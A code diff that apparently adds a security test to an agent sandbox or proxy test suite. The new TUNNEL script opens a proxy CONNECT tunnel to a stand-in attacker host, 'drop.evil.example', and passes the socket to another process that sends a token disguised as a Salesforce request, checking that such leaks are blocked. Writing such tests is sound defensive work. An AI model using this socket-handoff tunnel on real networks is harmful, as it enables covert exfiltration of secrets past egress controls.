@@ -245,6 +245,43 @@ def seized_honest(w):
     return bad
 
 
+TUNNEL = """
+import os, socket, sys
+s = socket.create_connection((sys.argv[3], 3128), 5)
+s.send(b"CONNECT drop.evil.example:443 HTTP/1.1\\r\\nHost: drop.evil.example:443\\r\\n\\r\\n")
+print(s.recv(99).split(b"\\r")[0].decode(), flush=True)
+sys.stdin.readline()
+os.set_inheritable(s.fileno(), True)
+os.execv(sys.argv[1], [sys.argv[1], "-c", "import socket, sys\\ns = socket.socket(fileno=int(sys.argv[1]))\\n"
+         "try:\\n s.send(('CONNECT acme.my.salesforce.com:443 HTTP/1.1\\\\r\\\\nX: ' + sys.argv[2] + '\\\\r\\\\n\\\\r\\\\n').encode()); print('sent')\\n"
+         "except OSError as e: print(e)\\nimport time; time.sleep(1)", str(s.fileno()), sys.argv[2]])
+"""
+
+
+def seized_tunnel(w):
+    """A tool is started with a connection to a proxy that leads to somebody already: what looks like the session's request goes to that one. Begun before
+    the agent, and beside it. The session's own tunnel through the same proxy works."""
+    tool, path, bad = shutil.copy(os.path.realpath("/usr/bin/python3"), w.dir + "/assistantd"), W.script(w, "tunnel.py", TUNNEL), []
+    proxy = {"proxies": [{"host": W.PROXY, "port": 3128}]}
+    for name in ("bare", "before the agent", "beside it"):
+        tok = token()
+        if name == "beside it":
+            w.start("--quiet", **proxy)
+        p = w.popen("/usr/bin/python3", path, tool, tok, W.PROXY, confined=False, uid=65534, stdin_fd=subprocess.PIPE)
+        said = p.stdout.readline()
+        if name == "before the agent":
+            w.start("--quiet", **proxy)
+        out, _ = p.communicate("go\n", timeout=20)
+        if " 200" not in said or bool(w.arrived(tok)) != (name == "bare"):
+            bad.append("%s: %r %r, arrived %s" % (name, said, out, w.arrived(tok)))
+        if name != "bare":
+            code, out = w.run("curl", "-sS", "-m", "8", "-x", "http://%s:3128" % W.PROXY, "-o", "/dev/null", "-w", "%{http_code}",
+                              "https://acme.my.salesforce.com/x", uid=65534)
+            bad += [] if out == "200" else ["%s, its own: %d %s" % (name, code, out)]
+            w.stop()
+    return bad
+
+
 CHURN = """
 import os, socket, sys, time
 end, n, bad = time.time() + float(sys.argv[1]), 0, []
@@ -311,4 +348,4 @@ def seized_addresses(w):
     return bad
 
 
-ALONE = [seized, seized_alone, seized_later, seized_honest, seized_addresses]
+ALONE = [seized_tunnel, seized, seized_alone, seized_later, seized_honest, seized_addresses]
